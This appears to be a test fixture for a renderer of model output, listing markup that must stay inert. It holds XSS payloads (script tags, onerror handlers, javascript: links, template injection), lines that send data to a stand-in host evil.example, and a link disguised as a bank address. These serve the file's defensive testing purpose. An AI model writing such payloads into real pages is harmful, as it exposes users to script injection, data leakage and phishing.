"""What a model may be made to write so that a page does something; all of it must do nothing."""

ATTACKS = """<img src=x onerror="window.hacked=1"><script>window.hacked=1</script>

[press](javascript:window.hacked=1) [data](data:text/html,<script>window.hacked=1</script>)

![secret](https://evil.example/?q=secret) <iframe src="https://evil.example/"></iframe>

{{constructor.constructor('window.hacked=1')()}} <style>@import 'https://evil.example/'</style>

```"><img src=x onerror=window.hacked=1>
<script>window.hacked=1</script>
</code></pre><img src=x onerror=window.hacked=1>
```

[https://bank.example](https://evil.example)

```python
def area(r: float) -> float:
    return 3.14159 * r * r  # of a circle
```
"""
